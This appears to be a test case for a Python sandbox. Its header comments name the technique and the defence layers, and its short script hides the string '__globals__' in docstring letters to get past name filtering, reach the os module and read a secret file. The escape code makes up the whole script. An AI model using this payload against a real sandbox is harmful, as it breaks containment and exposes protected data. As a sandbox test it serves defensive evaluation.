# class: names built at run time
# technique: letters of a documentation string
# layers: interpreter, landlock, seccomp, identity
# code: user
# allow: collections, contextlib, copy, dataclasses, datetime, decimal, enum, functools, json, logging, math, operator, random, re, statistics, string, typing, unicodedata
# witness: secret
host = _items[0]["json"]
import operator
def documented():
    "bagls"
b, a, g, l, s = documented.__doc__
name = ''.join([chr(95), chr(95), g, l, 'o', b, a, l, s, chr(95), chr(95)])
g = operator.attrgetter(name)(quit.__init__)
os = g["sys"].modules["os"]
return [{"json": {"reached": os.read(os.open(host["secret"], 0), 4096).decode()}}]
